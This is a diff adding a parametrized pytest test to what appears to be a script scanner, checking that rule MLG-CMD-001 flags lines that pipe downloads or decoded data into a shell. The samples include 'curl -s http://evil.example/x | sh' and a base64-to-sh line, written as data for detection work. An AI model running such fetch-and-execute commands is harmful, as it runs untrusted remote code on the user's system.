@@ -25,6 +25,20 @@ def test_its_members_are_read():
     assert "critical" in found.values()
 
 
+@pytest.mark.parametrize(
+    ("line", "severity"),
+    [
+        (b"curl -s http://evil.example/x | sh", "high"),
+        (b"echo aGk= | base64 -d | sh", "high"),
+        (b'o=$(command -v ape) && exec "$o" "$0" "$@"', None),
+        (b"# curl -s http://evil.example/x | sh", None),
+    ],
+)
+def test_commands_of_its_script(line, severity):
+    found = rules(PROGRAM.replace(b"echo\n", line + b"\n"))
+    assert found.get("MLG-CMD-001") == severity
+
+
 def test_without_an_archive():
     assert rules(PROGRAM) == {"MLG-BIN-002": "medium"}
 
